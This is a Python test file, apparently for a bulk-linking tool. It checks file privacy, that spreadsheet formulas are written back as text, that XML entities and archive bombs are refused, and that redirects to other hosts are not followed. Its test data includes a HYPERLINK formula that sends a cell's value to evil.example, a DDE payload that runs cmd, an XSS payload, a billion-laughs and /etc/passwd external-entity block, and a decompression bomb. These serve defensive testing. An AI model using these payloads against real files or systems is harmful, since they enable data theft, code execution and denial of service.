"""What a run may touch, show and tell, whatever the file, the service or the machine is like."""

import asyncio
import os
import re
import stat
import threading
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest

from bulklink.cli import main
from bulklink.sandbox.exchange import HttpAnswer
from tests.live import ADD, NN, Scene, account, lead, scene
from tests.raw_server import raw_server

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1",
    '<img src=x onerror=alert(1)>', "{{7*7}}",
]  # fmt: skip


@pytest.fixture
def stage(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Scene]:
    with scene(tmp_path / "work") as stage:
        monkeypatch.chdir(stage.folder)
        for name, value in stage.env.items():
            monkeypatch.setenv(name, value)
        stage.write_job(NN.format(action=ADD), report='html = true\noutcomes = ["csv", "xlsx", "parquet"]')
        yield stage


# Files are for their owner's eyes


@pytest.mark.skipif(os.name != "posix", reason="modes are POSIX's")
def test_all_files_of_a_run_are_private_even_where_the_machine_is_lax(stage: Scene) -> None:
    stage.write_rows([(account(n), lead(n), "+") for n in range(5)] + [("no id", lead(1), "+")])
    before = os.umask(0)
    try:
        assert main(["run", "job.toml", "--quiet"]) == 3
        assert main(["run", "job.toml", "--quiet", "--run-dir", "chosen"]) == 3
        assert main(["report", str(stage.run_dir)]) == 3
    finally:
        os.umask(before)
    for top in (stage.run_dir, stage.folder / "chosen", stage.folder / "state"):
        places = [top, *top.rglob("*")]
        modes = {path: stat.S_IMODE(path.stat().st_mode) for path in places}
        assert {path: oct(mode) for path, mode in modes.items() if mode != (0o700 if path.is_dir() else 0o600)} == {}
        assert len(places) > 1


# Formulas stay text


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formulas_of_the_input_are_written_back_as_they_are_and_never_as_formulas(stage: Scene, kind: str) -> None:
    rows = [(account(1), formula, formula) for formula in FORMULAS]
    if kind == "csv":
        stage.write_rows(rows, header=("From", "To", "=Note"))
    else:
        workbook = openpyxl.Workbook()
        for row in (("From", "To", "=Note"), *rows):
            workbook.active.append(row)
        for cells in workbook.active.iter_rows():
            for cell in cells:
                cell.data_type = "s"
        workbook.save(stage.folder / "links.xlsx")
        stage.write_job(
            NN.format(action=ADD), input='file = "links.xlsx"', report='html = true\noutcomes = ["csv", "xlsx"]'
        )
    assert main(["run", "job.toml", "--quiet"]) == 3
    assert [row["=Note"] for row in stage.rows()] == FORMULAS
    with (stage.run_dir / "troubles.csv").open(encoding="utf-8", newline="") as file:
        assert all(quoted in file.read() for quoted in ['"=HYPERLINK(""http://evil.example/?""&A1,""click"")"'])
    sheet = openpyxl.load_workbook(stage.run_dir / "outcomes.xlsx").active
    cells = [cell for line in sheet.iter_rows() for cell in line]
    assert {cell.data_type for cell in cells if isinstance(cell.value, str)} <= {"s", "inlineStr"}
    assert "=1+1" in {cell.value for cell in cells}
    page = (stage.run_dir / "report.html").read_text(encoding="utf-8")
    assert "<img" not in page
    assert "&lt;img src=x onerror" in page
    assert not re.search("<a [^>]*evil", page)


def test_a_formula_in_a_cell_counts_by_what_the_spreadsheet_had_computed(stage: Scene) -> None:
    workbook = openpyxl.Workbook()
    workbook.active.append(("From", "To"))
    workbook.active.append((account(1), '=WEBSERVICE("http://127.0.0.1:1/")'))
    workbook.save(stage.folder / "links.xlsx")
    stage.write_job(NN.format(action=ADD), input='file = "links.xlsx"')
    assert main(["run", "job.toml", "--quiet"]) == 3
    assert [(row["To"], row["outcome"]) for row in stage.rows()] == [("", "invalid")]


# XML and archives that are up to something

ENTITIES = (
    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + '<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://127.0.0.1:1/">]>'
)


def rewritten(path: Path, part: str, old: bytes, new: bytes) -> None:
    """Change a part of a ZIP archive."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert old in parts[part]
    parts[part] = parts[part].replace(old, new)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)


def with_entities(text: bytes) -> bytes:
    head, mark, rest = text.partition(b"?>")
    return head + mark + ENTITIES.encode() + rest if mark else ENTITIES.encode() + text


def workbook(stage: Scene, suffix: str) -> Path:
    path = stage.folder / f"links.{suffix}"
    stage.write_job(NN.format(action=ADD), input=f'file = "{path.name}"', report="html = false")
    if suffix == "ods":
        table = (
            '<table:table table:name="Links">'
            + "".join(
                "<table:table-row>"
                + "".join(
                    f'<table:table-cell office:value-type="string"><text:p>{cell}</text:p></table:table-cell>'
                    for cell in row
                )
                + "</table:table-row>"
                for row in (("From", "To"), (account(1), "HERE"))
            )
            + "</table:table>"
        )
        content = (
            '<?xml version="1.0"?><office:document-content '
            'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
            'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"><office:body>'
            f"<office:spreadsheet>{table}</office:spreadsheet></office:body></office:document-content>"
        )
        kind = "application/vnd.oasis.opendocument.spreadsheet"
        manifest = f'<?xml version="1.0"?><m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:file-entry m:full-path="/" m:media-type="{kind}"/></m:manifest>'  # noqa: E501
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("mimetype", kind)
            archive.writestr("META-INF/manifest.xml", manifest)
            archive.writestr("content.xml", content)
        return path
    made = openpyxl.Workbook()
    made.active.append(("From", "To"))
    made.active.append((account(1), "HERE"))
    made.save(path)
    return path


PARTS = {"xlsx": ["xl/worksheets/sheet1.xml", "xl/workbook.xml"], "ods": ["content.xml"]}


@pytest.mark.parametrize(("suffix", "part"), [(suffix, part) for suffix, parts in PARTS.items() for part in parts])
@pytest.mark.parametrize("entity", ["j", "file", "net"])
def test_entities_of_workbooks_are_never_followed(
    stage: Scene, suffix: str, part: str, entity: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = workbook(stage, suffix)
    with zipfile.ZipFile(path) as archive:
        text = archive.read(part)
    rewritten(path, part, text, with_entities(text).replace(b"HERE", f"&{entity};".encode()))
    code = main(["run", "job.toml"])
    said = capsys.readouterr().err
    assert "Traceback" not in said
    assert "root:" not in said
    if part == "xl/workbook.xml":  # nobody looks at its entities
        assert code == 3
    else:
        assert code == 2
        assert f"cannot be read as a workbook (at 0..0: unrecognized entity `&{entity};`)" in said
        assert len(said.splitlines()) == 2


@pytest.mark.parametrize("suffix", ["xlsx", "ods"])
def test_an_archive_that_grows_out_of_all_proportion_is_refused_unopened(
    stage: Scene, suffix: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = workbook(stage, suffix)
    end = b"</office:spreadsheet>" if suffix == "ods" else b"</sheetData>"
    part = "content.xml" if suffix == "ods" else "xl/worksheets/sheet1.xml"
    rewritten(path, part, end, end + b" " * 80_000_000)
    assert main(["run", "job.toml"]) == 2
    said = capsys.readouterr().err
    assert re.search(rf"links.{suffix}: {part} would grow from [\d,]+ to 80,[\d,]+ bytes", said)


def test_metadata_with_entities_is_refused(stage: Scene, capsys: pytest.CaptureFixture[str]) -> None:
    stage.write_rows([(account(1), lead(1), "+")])
    edmx = f'<?xml version="1.0"?>{ENTITIES}<edmx:Edmx xmlns:edmx="http://docs.oasis-open.org/odata/ns/edmx">&j;</edmx:Edmx>'
    (stage.folder / "metadata.xml").write_text(edmx, encoding="utf-8")
    assert main(["rehearse", "job.toml", "--metadata", "metadata.xml"]) == 2
    assert len(capsys.readouterr().err.splitlines()) == 2


# The bearer token goes to the environment and to nobody else


class Elsewhere:
    """Another host, in a thread of its own: its origin, and the requests that arrived there."""

    def __init__(self) -> None:
        self.loop, self.ready, self.over = asyncio.new_event_loop(), threading.Event(), asyncio.Event()
        self.origin, self.requests = "", list[bytes]()
        self.thread = threading.Thread(target=self.loop.run_until_complete, args=(self.serve(),))

    async def serve(self) -> None:
        async with raw_server() as server:
            self.origin, self.requests = server.origin, server.requests
            self.ready.set()
            await self.over.wait()

    def __enter__(self) -> "Elsewhere":
        self.thread.start()
        self.ready.wait()
        return self

    def __exit__(self, *_: object) -> None:
        self.loop.call_soon_threadsafe(self.over.set)
        self.thread.join()


def answers(stage: Scene, change: Callable[[HttpAnswer], HttpAnswer]) -> None:
    """Change every answer of the environment."""
    answer = stage.sandbox.reception.answer
    stage.sandbox.reception.answer = lambda visit, now_s: change(answer(visit, now_s))  # type: ignore[method-assign]


@pytest.mark.parametrize(
    ("path", "codes"),
    [("/api/data/v9.2/accounts?$skiptoken=1", (2, 4)), ("/elsewhere/v9.2/accounts", (4,)), (":x@evil/", (4,))],
)
def test_a_next_page_on_another_host_is_not_fetched_there(stage: Scene, path: str, codes: tuple[int, ...]) -> None:
    stage.write_rows([(account(n), lead(n), "+") for n in range(5)])
    stage.write_job(NN.format(action=ADD).replace('accountid = "From"', 'name = "From"'))
    with Elsewhere() as elsewhere:
        link = f'"@odata.nextLink":"{elsewhere.origin}{path}","value":['.encode()
        answers(stage, lambda one: HttpAnswer(one.status, one.headers, one.body.replace(b'"value":[', link)))
        code = main(["run", "job.toml", "--quiet"])
        assert code in codes
    assert elsewhere.requests == []


@pytest.mark.parametrize("status", [301, 302, 307, 308])
def test_a_redirect_is_not_followed(stage: Scene, status: int, capsys: pytest.CaptureFixture[str]) -> None:
    stage.write_rows([(account(n), lead(n), "+") for n in range(5)])
    with Elsewhere() as elsewhere:
        there = ("Location", f"{elsewhere.origin}/api/data/v9.2/WhoAmI")
        answers(stage, lambda one: HttpAnswer(status, [*one.headers, there], b""))
        assert main(["run", "job.toml", "--quiet"]) == 4
        assert f"points elsewhere (HTTP {status})" in capsys.readouterr().err
    assert elsewhere.requests == []
    assert list(stage.links()) == []
